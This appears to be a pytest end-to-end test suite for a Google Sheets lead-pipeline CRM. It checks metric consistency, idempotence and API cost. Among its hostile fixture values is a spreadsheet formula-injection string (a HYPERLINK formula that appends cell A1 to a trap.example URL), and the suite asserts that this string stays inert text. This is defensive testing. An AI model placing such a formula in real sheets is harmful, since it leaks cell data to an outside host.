@@ -1,0 +1,339 @@
+"""The whole job over HTTP, from a raw export to converted leads, with gspread as the operator.
+
+Every metric is compared in four places: the worker's own (``status --json``), the Dashboard's formulas as the worker
+and as the operator read them, and a count of this file's own, made from the Master by the words of the owner's
+document. What is counted here is not counted with the product's code.
+"""
+
+import datetime as dt
+import math
+from collections import Counter
+from statistics import median
+from zoneinfo import ZoneInfo
+
+import pytest
+from job_bench import INPUTS, STEPS, Bench, read_export, write_export
+
+from sheets_crm import sample
+
+pytestmark = pytest.mark.long
+
+PEOPLE = 240
+LOCALES = ("es_ES", "en_US")
+NASTY = {
+    "summary": '=HYPERLINK("https://trap.example/?x="&A1;"Ver perfil")',
+    "title": "+34600123456",
+    "titleDescription": 'línea uno\nlínea dos; con "comillas", y coma\ttab',
+    "location": "007",
+    "durationInRole": "1-2",
+    "durationInCompany": "5.10",
+    "firstName": "TRUE",
+}
+MASTER_NAMES = {
+    "summary": "personSummary",
+    "title": "personTitle",
+    "titleDescription": "personTitleDescription",
+    "location": "personLocation",
+    "durationInRole": "durationInRole",
+    "durationInCompany": "durationInCompany",
+    "firstName": "firstName",
+}
+
+
+@pytest.fixture(scope="module", params=LOCALES)
+def job(request, tmp_path_factory):
+    """The whole job, played once in each locale."""
+    with Bench(tmp_path_factory.mktemp("job"), request.param) as bench:
+        bench.reports = list(play(bench))
+        yield bench
+
+
+def play(bench):
+    """Play every step as an operator and yield what each run reported."""
+    yield bench.cli("init")
+    header, rows = sample.export_rows(PEOPLE)
+    rows[10] = [NASTY.get(name, cell) for name, cell in zip(header, rows[10], strict=True)]
+    write_export(bench.directory / "export.csv", header, rows)
+    yield bench.cli("import", bench.directory / "export.csv", "--target-id", "T-1")
+
+    bench.tick("Verification Input", 100)
+    yield bench.sync()
+    yield from answer(bench, "Verification Batch", sample.verification_output)
+    bench.take("verification", 90)
+    yield bench.sync()
+    yield from answer(bench, "Verification Batch", sample.verification_output, seed=1)
+
+    bench.tick("CompScrap Input", len(bench.records("CompScrap Input")) - 5)
+    yield bench.sync()
+    yield from answer(bench, "CompScrap Batch", sample.company_output)
+    yield close(bench, "C-0001")
+
+    bench.take("box1", 80)
+    yield bench.sync()
+    yield from answer(bench, "Box1 Batch", sample.box1_output)
+
+    bench.tick("Instantly Input", len(bench.records("Instantly Input")) - 4)
+    yield bench.sync()
+    yield from answer(bench, "Instantly Batch", sample.instantly_output)
+
+
+def answer(bench, tab, tool, seed=0):
+    """Paste what an outside tool answers to the shown batch, and run."""
+    header, *rows = bench.rows(tab)
+    bench.last_paste = tool(header, rows, seed=seed)
+    bench.paste(*bench.last_paste)
+    yield bench.sync()
+
+
+def close(bench, batch):
+    header, *rows = bench.rows("Batches")
+    row = [line[0] for line in rows].index(batch) + 2
+    bench.type("Batches", f"{chr(65 + header.index('close'))}{row}", [True])
+    return bench.sync()
+
+
+def ratio(above, below):
+    return above / below if below else None
+
+
+def times(*factors):
+    return None if None in factors else math.prod(factors)
+
+
+def counted(bench):
+    """Count every metric from the Master alone, by the owner's words."""
+    leads = list(bench.master().values())
+
+    def number(**conditions):
+        return sum(all(lead[name] == value for name, value in conditions.items()) for lead in leads)
+
+    def url(lead):
+        return lead["companyLinkedinUrl_fromP"] != "" or lead["companySalesUrl_fromP"] != ""
+
+    def status(*words):
+        return sum(lead["instantly_sent"] is True and lead["instantly_status"] in words for lead in leads)
+
+    total = len(leads)
+    verified = number(validation_success=True)
+    verified_url = sum(lead["validation_success"] is True and url(lead) for lead in leads)
+    drop, stored, hit = (number(box1_status="completed", box1_result=word) for word in ("DROP", "noHIT", "HIT"))
+    box1_done = number(box1_status="completed")
+    scraped, scrap_sent = number(company_scrap_status="completed"), number(company_scrap_sent=True)
+    sent = number(instantly_sent=True)
+    replied = status("positive reply", "negative reply", "converted")
+    positive, converted = status("positive reply", "converted"), status("converted")
+    ready = number(box1_result="HIT", validation_success=True, box1_status="completed", instantly_sent=False)
+    found = {
+        "leads_total": total,
+        "verification_available": number(verification_sent=False),
+        "verification_sent": number(verification_sent=True),
+        "verification_verified": verified,
+        "verification_ratio": ratio(verified, number(verification_status="completed")),
+        "verified_with_company_url": verified_url,
+        "verified_with_company_url_ratio": ratio(verified_url, verified),
+        "leads_with_company_url": sum(map(url, leads)),
+        "leads_with_company_url_ratio": ratio(sum(map(url, leads)), total),
+        "company_scrap_available": number(validation_success=True, company_scrap_sent=False),
+        "company_scrap_sent": scrap_sent,
+        "company_scrap_completed": scraped,
+        "company_scrap_ratio": ratio(scraped, scrap_sent),
+        "box1_available": number(company_scrap_status="completed", validation_success=True, box1_sent=False),
+        "box1_sent": number(box1_sent=True),
+        "box1_drop": drop,
+        "box1_drop_ratio": ratio(drop, box1_done),
+        "box1_fit_ratio": ratio(stored + hit, box1_done),
+        "box1_storage": number(storage=True),
+        "box1_storage_ratio": ratio(stored, box1_done),
+        "box1_hit_ratio": ratio(hit, box1_done),
+        "instantly_ready": ready,
+        "instantly_sent": sent,
+        "instantly_reply_ratio": ratio(replied, sent),
+        "instantly_positive_ratio": ratio(positive, sent),
+        "instantly_conversion_ratio": ratio(converted, positive),
+        "estimate_total": total,
+    }
+    chain = ("verified", "verification_ratio"), ("company_scrap", "company_scrap_ratio"), ("hit", "box1_hit_ratio")
+    chain += ("positive", "instantly_positive_ratio"), ("converted", "instantly_conversion_ratio")
+    before = total
+    for name, share in chain:
+        before = found[f"estimate_{name}"] = times(before, found[share])
+    return found | feeding(found, leads) | health(bench, leads)
+
+
+def feeding(found, leads):
+    """Count the feeding days with Control's first schedule: fifty on each weekday, nothing at the weekend."""
+    day = dt.datetime.now(tz=ZoneInfo("Europe/Madrid")).date()
+    left = found["instantly_ready"]
+    while (left := left - (50 if day.weekday() < 5 else 0)) > 0:
+        day += dt.timedelta(days=1)
+    until = (day - dt.date(1899, 12, 30)).days
+    waiting = [
+        sum(lead[f"{step}_status"] in {"ready", "processing"} for lead in leads)
+        for step in ("verification", "company_scrap", "box1")
+    ]
+    shares = [found[name] for name in ("verification_ratio", "company_scrap_ratio", "box1_hit_ratio")]
+    coming = sum(count * math.prod(shares[n:]) for n, count in enumerate(waiting))
+    took = [
+        lead["box1_completed_at"] - lead["imported_at"] for lead in leads if lead["box1_status"] == "completed"
+    ]
+    return {
+        "feed_days": found["instantly_ready"] / 50,
+        "feed_until": until,
+        "feed_days_with_pipeline": (found["instantly_ready"] + coming) / 50,
+        "next_export_by": until - math.ceil(median(took)),
+    }
+
+
+def health(bench, leads):
+    sheets = bench.book.fetch_sheet_metadata()["sheets"]
+    grids = [sheet["properties"]["gridProperties"] for sheet in sheets]
+    kept = all(
+        sum(lead[f"{'instantly_step' if step == 'instantly' else step}_status"] == "ready" for lead in leads)
+        == len(bench.records(tab))
+        for step, tab in zip(STEPS, INPUTS, strict=True)
+    )
+    return {
+        "conservation_ok": kept,
+        "cells_used_ratio": sum(grid["rowCount"] * grid["columnCount"] for grid in grids) / 10_000_000,
+    }
+
+
+def agree(one, other):
+    if isinstance(one, bool) or isinstance(other, bool) or one in {None, ""} or other in {None, ""}:
+        return (one if one != "" else None) == (other if other != "" else None)
+    return math.isclose(one, other, rel_tol=1e-12, abs_tol=1e-12)
+
+
+def test_every_metric_agrees_in_four_places(job):
+    status = job.cli("status")
+    shown = {line[6]: line[1] for line in job.raw("Dashboard")[1:] if len(line) > 6 and line[6]}
+    own = counted(job)
+    assert set(status["metrics"]) == set(own) | {"last_run_at"}
+    for name, value in own.items():
+        assert agree(status["metrics"][name], value), (name, status["metrics"][name], value)
+        assert agree(status["dashboard"][name], value), (name, status["dashboard"][name], value)
+        assert agree(shown[name], value), (name, shown[name], value)
+    last = max(line["when"] for line in job.records("Log"))
+    assert abs(status["metrics"]["last_run_at"] - last) < 2 / 86_400
+    assert abs(shown["last_run_at"] - last) < 2 / 86_400
+
+
+def test_leads_come_to_every_end(job):
+    found = counted(job)
+    assert found["leads_total"] == PEOPLE
+    assert all(found[name] > 0 for name in found if name != "company_scrap_available" or found[name] != 5)
+    assert found["company_scrap_available"] == 5
+    assert found["instantly_ready"] == 4
+    words = Counter(lead["instantly_status"] for lead in job.master().values())
+    assert words["converted"] > 0
+    assert words["positive reply"] > 0
+
+
+def test_the_raw_export_had_what_real_ones_have(job):
+    rows = read_export(job.directory / "export.csv")
+    assert len(rows[0]) == 32
+    assert len(rows) > PEOPLE + 6
+    assert sum(not row["profileUrl"] and not row["fullName"] for row in rows) >= 2
+    assert any("\n" in row["summary"] for row in rows)
+    assert any(row["summary"].startswith("=") for row in rows)
+
+
+def test_text_stays_text_on_the_whole_way(job):
+    wanted = [row for row in read_export(job.directory / "export.csv") if row["title"] == NASTY["title"]]
+    leads = job.master()
+    number = next(n for n, lead in leads.items() if lead["personSummary"] == NASTY["summary"])
+    assert wanted
+    for name, header in MASTER_NAMES.items():
+        assert leads[number][header] == NASTY[name]
+    formulas = job.dump()["FORMULA"]["Master"]
+    header = formulas[0]
+    row = next(line for line in formulas[1:] if line[0] == number)
+    assert row[header.index("personSummary")] == NASTY["summary"]
+
+
+def test_no_scraped_cell_is_a_formula(job):
+    request = {"ranges": ["Master"], "fields": "sheets.data.rowData.values.userEnteredValue.formulaValue"}
+    answer = job.book.client.request(
+        "get", f"https://sheets.googleapis.com/v4/spreadsheets/{job.spreadsheet_id}", params=request
+    ).json()
+    cells = [cell for row in answer["sheets"][0]["data"][0].get("rowData", []) for cell in row.get("values", [])]
+    assert len(cells) > PEOPLE
+    assert not any("formulaValue" in cell.get("userEnteredValue", {}) for cell in cells)
+
+
+def test_every_drops_counts_add_up(job):
+    drops = job.records("Imports")
+    assert [drop["step"] for drop in drops] == [
+        "export",
+        "verification",
+        "verification",
+        "company_scrap",
+        "box1",
+        "instantly",
+    ]
+    for drop in drops:
+        parts = ("new", "updated", "unchanged", "duplicate", "rejected")
+        assert sum(drop[part] or 0 for part in parts) == drop["rows"], drop
+    assert drops[0]["rows"] == len(read_export(job.directory / "export.csv"))
+    assert drops[0]["new"] == PEOPLE
+
+
+def test_every_lead_is_in_one_state_of_each_step(job):
+    leads = job.master().values()
+    for step, tab in zip(STEPS, INPUTS, strict=True):
+        column = "instantly_step_status" if step == "instantly" else f"{step}_status"
+        states = Counter(lead[column] for lead in leads)
+        assert set(states) <= {"", "ready", "processing", "completed"}
+        assert {int(lead["LeadNumber"]) for lead in leads if lead[column] == "ready"} == {
+            int(row["LeadNumber"]) for row in job.records(tab)
+        }
+
+
+def test_a_second_run_changes_nothing(job):
+    job.sync()  # may write the heartbeat, which is due every ten minutes
+    before, wrote = job.dump(), job.stats()["cells_written"]
+    for words in (("sync", "--now"), ("sync", "--now", "--force"), ("sync",)):
+        report = job.cli(*words)
+        assert report["changes"] == []
+    after = job.dump()
+    assert job.stats()["cells_written"] == wrote
+    assert after["FORMULA"] == before["FORMULA"]
+
+
+def test_an_idle_run_costs_one_read_and_no_write(job):
+    before = job.stats()["requests"]
+    assert job.sync()["idle"] is True
+    after = job.stats()["requests"]
+    made = {name: count - before.get(name, 0) for name, count in after.items() if "/v4/" in name}
+    assert sum(made.values()) == 1, made
+
+
+def test_pasting_the_same_output_again_changes_no_lead(job):
+    before, inputs = job.master(), [job.records(tab) for tab in INPUTS]
+    header, rows = job.last_paste
+    job.paste(header, rows)
+    report = job.sync()
+    assert [drop["updated"] + drop["new"] + drop["rejected"] for drop in report["drops"]] == [0]
+    assert report["drops"][0]["unchanged"] + report["drops"][0]["duplicate"] == len(rows)
+    assert job.master() == before
+    assert [job.records(tab) for tab in INPUTS] == inputs
+    assert job.rows("Inbox") in ([], [[]])
+
+
+def test_importing_the_same_export_again_adds_nobody(job):
+    before = job.master()
+    report = job.cli("import", job.directory / "export.csv")
+    assert report["drops"][0]["new"] == 0
+    assert job.master() == before
+
+
+FIGURES = {}
+
+
+def test_the_figures_are_the_same_in_both_locales(job):
+    times_ = {"last_run_at", "cells_used_ratio", "next_export_by"}
+    figures = {name: value for name, value in job.cli("status")["dashboard"].items() if name not in times_}
+    for other in FIGURES.values():
+        assert figures == other
+    FIGURES[job.locale] = figures
+    assert not any(isinstance(value, str) for value in figures.values())
